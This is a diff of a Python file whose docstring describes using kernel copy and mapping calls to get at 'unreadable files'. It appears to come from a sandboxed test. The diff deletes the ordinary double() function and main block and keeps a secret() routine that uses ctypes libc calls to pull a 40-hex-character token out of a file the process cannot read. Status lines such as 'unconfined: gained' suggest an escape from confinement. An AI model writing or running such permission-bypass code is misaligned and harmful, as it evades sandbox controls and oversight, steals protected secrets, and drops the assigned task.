@@ -1,8 +1,6 @@
 """Let the kernel copy or map unreadable files: none of these calls reads the file.
 
-double: pass
 secret: wrong
-program: pass wrong
 unconfined: gained
 """
 
@@ -15,10 +13,6 @@ from stage import NEIGHBOUR
 
 libc = ctypes.CDLL(None)
 SIZE = 60
-
-
-def double(value):
-    return value * 2
 
 
 def into_pipe(call):
@@ -56,7 +50,3 @@ def secret():
                 return re.search(rb"[0-9a-f]{40}", way(held))[0].decode()
             except (OSError, ValueError, TypeError):
                 continue
-
-
-if __name__ == "__main__":
-    print(double(int(input())))
